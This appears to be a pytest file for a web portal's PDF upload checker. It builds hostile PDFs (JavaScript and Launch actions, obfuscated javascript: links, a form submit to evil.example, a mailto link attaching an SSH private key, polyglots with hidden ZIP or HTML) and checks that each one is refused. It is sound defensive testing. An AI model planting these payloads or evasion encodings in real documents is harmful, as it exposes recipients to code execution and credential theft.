"""PDFs with active content or hidden data, each built here byte by byte, are refused; the PDFs
people really send (links to web sites, incremental updates, scanner padding, the demo's files)
still pass. The worker's verdict is taken in process for speed; a few go the whole way through
the child process and the upload pipeline."""

from __future__ import annotations

import asyncio
import types

import pytest
from fpdf import FPDF

from portal_app.domain.demo import sample_files
from portal_app.domain.documents import wallet
from portal_app.domain.uploads import pdf_worker, pdfs
from portal_app.domain.uploads.checks import Accepted, Refused, inspect_upload
from portal_app.models import Role
from portal_app.settings import get_settings
from portal_app.states import guard
from portal_app.states.documents import DocumentsState
from tests.support import corpus
from tests.support import pdf_builder as build
from tests.support.pdf_builder import document, link
from tests.support.states import drain, state_of, upload_file

SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /Type /Action /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>"


def _uri(target: bytes) -> bytes:
    return document(page=link(b"<< /S /URI /URI " + target + b" >>"))


HOSTILE = {
    # case: (bytes, reason key)
    "open_action_script": (document(catalog=b"/OpenAction " + SCRIPT), "javascript"),
    "names_tree_script": (corpus.javascript_pdf(), "javascript"),
    "link_script": (document(page=link(b"5 0 R"), extra=[SCRIPT]), "javascript"),
    "indirect_s": (document(page=link(b"<< /S 5 0 R /F (calc.exe) >>"), extra=[b"/Launch"]), "launch"),
    "indirect_s_unlisted": (
        document(page=link(b"5 0 R"), extra=[b"<< /S 6 0 R /F (calc.exe) >>", b"/Launch"], unlisted=[5, 6]),
        "launch",
    ),
    "action_unlisted": (document(catalog=b"/OpenAction 5 0 R", extra=[LAUNCH], unlisted=[5]), "launch"),
    "action_marked_free": (document(page=link(b"5 0 R"), extra=[SCRIPT], free=[5]), "javascript"),
    "action_in_unlisted_object_stream": (
        document(page=link(b"6 0 R"), extra=[build.object_stream({6: LAUNCH})]),
        "launch",
    ),
    "escaped_javascript": (corpus.hidden_javascript_pdf(), "javascript"),
    "escaped_launch": (document(page=link(b"<< /S /L#61unch /F (calc.exe) >>")), "launch"),
    "escaped_key": (document(page=b"/#41#41 << /O 5 0 R >>", extra=[b"<< /S /GoTo /D [3 0 R /Fit] >>"]), "automatic"),
    "launch_windows": (document(page=link(b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")), "launch"),
    "launch_after_goto": (
        document(page=link(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (calc.exe) >> >>")),
        "launch",
    ),
    "goto_remote": (document(page=link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>")), "launch"),
    "goto_embedded": (document(page=link(b"<< /S /GoToE /T << /R /C /N (x) >> >>")), "launch"),
    "submit_form": (
        document(page=link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/x) >> >>")),
        "submit",
    ),
    "import_data": (document(page=link(b"<< /S /ImportData /F (donnees.fdf) >>")), "submit"),
    "rendition": (document(page=link(b"<< /S /Rendition /OP 0 >>")), "active"),
    "sound_action": (document(page=link(b"<< /S /Sound /Sound 5 0 R >>"), extra=[build.stream(b"\0" * 8)]), "active"),
    "named_print": (document(page=link(b"<< /S /Named /N /Print >>")), "active"),
    "rich_media": (document(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "active"),
    "movie": (document(page=b"/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>]"), "active"),
    "three_d": (document(page=b"/Annots [<< /Subtype /3D /Rect [0 0 9 9] >>]"), "active"),
    "file_attachment": (
        document(page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>]"),
        "embedded",
    ),
    "embedded_files": (corpus.embedded_file_pdf(), "embedded"),
    "xfa": (document(catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra=[build.stream(b"<xdp/>")]), "javascript"),
    "page_additional_actions": (
        document(page=b"/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"),
        "automatic",
    ),
    "open_action_uri": (document(catalog=b"/OpenAction << /S /URI /URI (https://tracker.example/) >>"), "automatic"),
    "uri_javascript": (_uri(b"(javascript:alert\\(1\\))"), "link"),
    "uri_javascript_upper_spaced": (_uri(b"(  JavaScript:alert\\(1\\))"), "link"),
    "uri_javascript_tab": (_uri(b"(java\tscript:alert\\(1\\))"), "link"),
    "uri_javascript_octal": (_uri(b"(\\152avascript:alert\\(1\\))"), "link"),
    "uri_javascript_hex": (_uri(b"<6A617661736372697074 3A616C657274283129>"), "link"),
    "uri_javascript_indirect": (
        document(page=link(b"<< /S /URI /URI 5 0 R >>"), extra=[b"(javascript:alert\\(1\\))"], unlisted=[5]),
        "link",
    ),
    "uri_file": (_uri(b"(file:///C:/Windows/System32/calc.exe)"), "link"),
    "uri_unc": (_uri(b"(\\\\\\\\evil.example\\\\share\\\\x.exe)"), "link"),
    "uri_slashes": (_uri(b"(//evil.example/share/x.exe)"), "link"),
    "uri_relative": (_uri(b"(calc.exe)"), "link"),
    "uri_data": (_uri(b"(data:text/html,<script>alert\\(1\\)</script>)"), "link"),
    "uri_vbscript": (_uri(b"(vbscript:msgbox)"), "link"),
    "uri_javascript_utf16": (
        _uri(
            b"(\xfe\xff" + "javascript:alert(1)".encode("utf-16-be").replace(b")", b"\\)").replace(b"(", b"\\(") + b")"
        ),
        "link",
    ),
    "mailto_attach": (_uri(b"(mailto:agent@example.fr?attach=/home/agent/.ssh/id_rsa)"), "link"),
    "zip_after_eof": (corpus.pdf() + build.zip_archive(), "hidden"),
    "html_after_eof": (corpus.pdf() + corpus.html(), "hidden"),
    "zip_inside": (build.zip_inside(), "hidden"),
    "html_then_eof": (corpus.pdf() + corpus.html() + b"\n%%EOF\n", "hidden"),
    "thread_in_other_file": (document(page=link(b"<< /S /Thread /F (autre.pdf) /D 0 >>")), "launch"),
    "ecmascript": (document(page=link(b"<< /S /ECMAScript /JS (x) >>")), "javascript"),
    "no_eof": (document().rsplit(b"%%EOF", 1)[0], "unreadable"),
    "many_definitions": (
        document(
            page=link(b"<< /S 5 0 R >>"),
            extra=[b"/GoTo"],
            copies=[(number, b"%d 0 R" % (number + 1)) for number in range(5, 40) for _ in range(30)],
        ),
        "complex",
    ),
    "open_action_fan_out": (
        document(
            catalog=b"/OpenAction 5 0 R",
            extra=[b"<< /S /GoTo /D [3 0 R /Fit] /Next [%s] >>" % (b"%d 0 R " % (n + 1) * 50) for n in range(5, 45)],
        ),
        "automatic",
    ),
    "reference_loop": (document(page=link(b"<< /S 5 0 R >>"), extra=[b"6 0 R", b"5 0 R"]), "complex"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_active_or_hidden_content_is_refused(case):
    data, reason = HOSTILE[case]
    assert pdf_worker.verdict(data)["verdict"] == reason


def _fpdf_with_links() -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    pdf.cell(0, 10, "Site", link="https://www.service-public.fr/")
    pdf.cell(0, 10, "Courriel", link="mailto:contact@example.fr")
    pdf.add_page()
    pdf.cell(0, 10, "Retour", link=pdf.add_link(page=1))
    return bytes(pdf.output())


def _incremental() -> bytes:
    base = document(page=link(b"<< /S /URI /URI (http://example.fr/) >>"))
    once = build.update(base, {5: b"<< /Producer (Editeur) >>"})
    return build.update(once, {3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"}) + b"\r\n"


CLEAN = {
    "pypdf": corpus.pdf(3),
    "fpdf_links": _fpdf_with_links(),
    "demo_survey": sample_files.survey(),
    "demo_programme": sample_files.programme("Développeur web", [("Module 1", "HTML et CSS")]),
    "hand_links": document(
        catalog=b"/OpenAction [3 0 R /Fit] /Outlines << /First << /Title (Page) /A << /S /GoTo /D [3 0 R /Fit] >> >> >>",
        page=link(b"<< /S /URI /URI (https://www.example.fr/a?b=c) >>"),
    ),
    "open_action_goto": document(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /FitH 842] >>"),
    "named_next_page": document(page=link(b"<< /S /Named /N /NextPage >>")),
    "utf16_link": _uri(b"<FEFF" + "https://www.example.fr/".encode("utf-16-be").hex().encode() + b">"),
    "incremental_updates": _incremental(),
    "scanner_padding": corpus.pdf() + b"\r\n" + b"\x00" * 4096,
    "repeated_eof": corpus.pdf() + b"%%EOF\r\n",
}


@pytest.mark.parametrize("case", sorted(CLEAN))
def test_documents_people_send_pass(case):
    result = pdf_worker.verdict(CLEAN[case])
    assert result["verdict"] == "ok", case
    assert result["pages"] >= 1


def test_a_5_mb_scan_passes():
    assert pdf_worker.verdict(corpus.pdf_5mb()) == {"verdict": "ok", "pages": 1}


def test_every_refusal_says_why_in_french_and_how_to_fix_it():
    for key in {reason for _data, reason in HOSTILE.values()} - {"unreadable", "complex"}:
        text = pdfs.REASONS[key]
        assert "refusé" in text and "réessayez" in text, key
        assert key in {"embedded", "hidden"} or "contenu actif" in text, key


def test_refusal_goes_through_the_child_process():
    verdict = pdfs.inspect_pdf(HOSTILE["action_unlisted"][0])
    assert not verdict.ok
    assert verdict.reason.startswith("Ce PDF contient une action qui lance un programme")
    assert "contenu actif" in verdict.reason


def test_polyglot_is_refused_by_the_upload_check():
    result = inspect_upload("releve.pdf", HOSTILE["zip_after_eof"][0])
    assert isinstance(result, Refused)
    assert "données cachées" in result.reason


def test_upload_zone_refuses_active_pdfs_and_stores_nothing(make_user, monkeypatch):
    alice = make_user("alice@exemple.fr").id
    user = types.SimpleNamespace(id=alice, role=Role.BENEFICIARY)
    monkeypatch.setattr(guard, "check", lambda state, roles, onboarding_open=False: (user, None))
    state = state_of(DocumentsState)
    files = [
        upload_file("lien.pdf", HOSTILE["uri_javascript_indirect"][0]),
        upload_file("cache.pdf", HOSTILE["action_unlisted"][0]),
        upload_file("archive.pdf", HOSTILE["zip_inside"][0]),
    ]
    asyncio.run(drain(state.upload(files)))
    assert [r["ok"] for r in state.results] == ["", "", ""]
    assert "contient un lien vers un script" in state.results[0]["message"]
    assert "lance un programme" in state.results[1]["message"]
    assert "données cachées" in state.results[2]["message"]
    assert wallet.list_documents(alice) == []
    stored = get_settings().files_dir
    assert not stored.exists() or not [path for path in stored.rglob("*") if path.is_file()]
    # The same zone still keeps a clean PDF, on disk as well.
    asyncio.run(drain(state.upload([upload_file("propre.pdf", CLEAN["hand_links"])])))
    assert [d.name for d in wallet.list_documents(alice)] == ["propre.pdf"]
    assert [path for path in stored.rglob("*") if path.is_file()]


def test_incremental_update_is_accepted_byte_for_byte():
    data = CLEAN["incremental_updates"]
    assert data.count(b"%%EOF") == 3
    result = inspect_upload("modifie.pdf", data)
    assert isinstance(result, Accepted)
    assert result.clean_bytes == data


def test_deep_nesting_and_object_floods_are_refused_as_too_complex():
    nested = document(page=b"/Foo " + b"[" * 200 + b"]" * 200)
    assert pdf_worker.verdict(nested)["verdict"] == "complex"
    # Deeper still, pypdf's own parser gives up first.
    nested = document(page=b"/Foo " + b"[" * 100_000 + b"]" * 100_000)
    assert pdf_worker.verdict(nested)["verdict"] == "unreadable"
    flood = document(extra=[b"null"] * 100_001)
    assert pdf_worker.verdict(flood)["verdict"] == "complex"


def test_scan_decodes_escaped_names_and_strings():
    from portal_app.domain.uploads import pdf_scan

    assert pdf_scan.scan_names(b"<< /J#61va#53cript 1 >>") == "javascript"
    assert pdf_scan.scan_names(b"<< /#55#52I (\\152avascript:x) >>") == "link"
    assert pdf_scan.scan_names(b"<< /URI (https://ok.example/) /S /URI >>") is None
    assert pdf_scan.hidden_data(corpus.pdf() + b" \t\r\n\x00\x0c") is None
